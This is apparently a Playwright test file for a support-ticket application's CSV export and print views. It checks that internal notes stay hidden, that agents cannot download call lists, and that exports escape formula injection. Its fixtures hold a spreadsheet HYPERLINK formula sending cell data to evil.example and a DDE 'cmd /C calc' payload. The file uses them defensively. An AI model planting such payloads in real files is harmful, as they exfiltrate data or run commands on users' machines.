"""What leaves the pages: lists as files that open right everywhere, and tickets on paper without what is internal."""

import csv
import io
import re

import pytest
from playwright.sync_api import expect

from core.clock import utc_now
from people.models import Account, Brand
from tests.browser.served import EMAILS
from tests.browser.told import ticket_with_a_message
from tests.factories.tickets import make_customer, make_ticket
from tickets.changes import add_note
from tickets.models import Ticket

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
SECRET = "Do not tell her about the discount."
OF_SCREENS = ".rail, .top, .ticket-nav, .save-bar, button, .button, .menu, select, textarea, audio, [role=slider]"


@pytest.fixture
def ticket(served):
    """A ticket with a note and a message."""
    path = ticket_with_a_message(served)
    with served.house.session() as session, session.begin():
        found = session.query(Ticket).one()
        author = session.query(Account).filter_by(email=EMAILS["agent"]).one()
        add_note(session, ticket=found, actor=f"account:{author.id}", now=utc_now(), text=SECRET)
    return path


def taken(page, name):
    """The rows of the file behind this link."""
    with page.expect_download() as download:
        page.get_by_role("link", name=name).click()
    assert re.fullmatch(r"(tickets|calls)-\d{4}-\d\d-\d\d\.csv", download.value.suggested_filename)
    text = download.value.path().read_text("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_list_is_taken_away_as_it_is_filtered(signed_in_page, served):
    with served.house.session() as session, session.begin():
        brand, now = session.query(Brand).one(), utc_now()
        customer = make_customer(session, brand, "+4915735985123", name="-2+3+cmd|' /C calc'!A0")
        mine = {"customer_id": customer.id, "caller": "+4915735985123", "created_at": now, "updated_at": now}
        make_ticket(session, brand, subject=EVIL, priority=1, **mine)
        make_ticket(session, brand, subject="Another", priority=3, **mine)
    page = signed_in_page("supervisor")
    page.goto("/tickets?priority=1")
    [row] = taken(page, "As a file")
    assert row["Subject"] == f"'{EVIL}"
    assert row["Customer"].startswith("'-2+3")
    assert row["Caller"] == "+4915735985123"
    zone = served.house.one("select zone from brand")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", row[f"Opened ({zone})"])
    assert served.house.rows("select action, facts from audit_entry where action like '%exported'") == [
        ("tickets_exported", {"filters": "priority=1"})
    ]


def test_calls_are_taken_away_too_and_agents_are_not_offered_it(signed_in_page, served, ticket):
    page = signed_in_page("supervisor")
    page.goto("/calls")
    [row] = taken(page, "As a file")
    assert re.fullmatch(r"\+\d+", row["From"])
    assert row["Result"] == "Left a message"
    agent = signed_in_page("agent")
    agent.goto("/calls")
    expect(agent.locator("table")).to_be_visible()
    expect(agent.get_by_role("link", name="As a file")).to_have_count(0)
    assert agent.request.get("/calls.csv").status == 403


def test_on_paper_a_ticket_has_its_facts_and_nothing_internal(signed_in_page, ticket):
    page = signed_in_page("agent")
    page.goto(ticket)
    expect(page.get_by_text(SECRET)).to_be_visible()
    page.locator("#field-note").fill("Half a thought")
    page.emulate_media(media="print")
    expect(page.get_by_text(SECRET)).to_be_hidden()
    expect(page.locator("#field-note")).to_be_hidden()
    expect(page.locator("h1")).to_be_visible()
    expect(page.locator(".ticket-side .facts")).to_contain_text("Priority")
    expect(page.locator(".ticket-story")).to_contain_text("Message, 0:0")
    shown = page.locator(OF_SCREENS).evaluate_all(
        "(all) => all.filter((one) => one.checkVisibility()).map((one) => one.outerHTML.slice(0, 120))"
    )
    assert shown == []


def test_notes_are_on_paper_for_whoever_asks_for_them(signed_in_page, ticket):
    page = signed_in_page("agent")
    page.add_init_script("window.print = () => { window.printed = document.body.hasAttribute('data-print-notes'); };")
    page.goto(ticket)
    page.get_by_text("Print", exact=True).click()
    page.get_by_role("button", name="Without internal notes").click()
    assert page.evaluate("() => window.printed") is False
    page.get_by_text("Print", exact=True).click()
    page.locator("#print-notes").click()
    assert page.evaluate("() => window.printed") is True
    # Once printed, the next print is without them again.
    page.emulate_media(media="print")
    expect(page.get_by_text(SECRET)).to_be_hidden()


def test_without_scripts_the_page_to_print_with_notes_is_a_link_away(signed_in_page, ticket):
    page = signed_in_page("agent", scripts=False)
    page.goto(ticket)
    page.get_by_text("Print", exact=True).click()
    page.locator("#print-notes").click()
    expect(page.get_by_text("with its internal notes")).to_be_visible()
    page.emulate_media(media="print")
    expect(page.get_by_text(SECRET)).to_be_visible()
    expect(page.get_by_text("with its internal notes")).to_be_hidden()
